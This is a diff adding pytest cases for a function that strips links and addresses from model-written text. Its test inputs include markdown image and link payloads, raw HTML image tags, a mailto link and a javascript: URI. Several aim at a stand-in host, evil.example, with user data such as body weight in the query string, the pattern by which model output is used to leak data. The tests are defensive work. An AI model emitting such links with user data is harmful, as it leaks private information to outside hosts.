@@ -4,7 +4,7 @@ from typing import Any
 
 import pytest
 
-from shared.text import TooDeepError, readable, readable_document
+from shared.text import TooDeepError, readable, readable_document, without_links
 
 
 @pytest.mark.parametrize(
@@ -31,3 +31,29 @@ def test_texts_of_a_document_become_readable_and_nothing_else_changes() -> None:
 def test_a_document_too_deep_is_refused() -> None:
     with pytest.raises(TooDeepError):
         readable_document([[[["x"]]]], 3)
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [
+        ("![chart](https://evil.example/?d=70kg)", "chart"),
+        ("[your plan](https://evil.example)", "your plan"),
+        ("![a]( //evil.example 'title')", "a"),
+        ("![a][1]\n\n[1]: https://evil.example/x", "a\n\n[1]: …"),
+        ("![a[b]](https://evil.example/x) and more", "![a[b]](… and more"),
+        ("<img src=https://evil.example/x>Hi", "Hi"),
+        ("<https://evil.example/x>", "<…>"),
+        ("<<b>img src=//evil.example>", "<img src=…>"),
+        ("See https://evil.example/?w=70, then go", "See … then go"),
+        ("HTTPS://evil.example", "…"),
+        ("www.evil.example/x", "…"),
+        ("javascript:alert(1)", "…"),
+        ("mailto:evil@evil.example?body=70kg", "…"),
+        # Nothing of these is an address.
+        ("Rest 2:30, RPE < 8 and > 6, and/or 5/3/1", "Rest 2:30, RPE < 8 and > 6, and/or 5/3/1"),
+        ("Do this: squat [3 sets] (5 reps)", "Do this: squat [3 sets] (5 reps)"),
+        ("**Bold**, `code`\n- a list", "**Bold**, `code`\n- a list"),
+    ],
+)
+def test_no_address_is_left_in_what_a_model_wrote(given: str, kept: str) -> None:
+    assert without_links(given) == kept
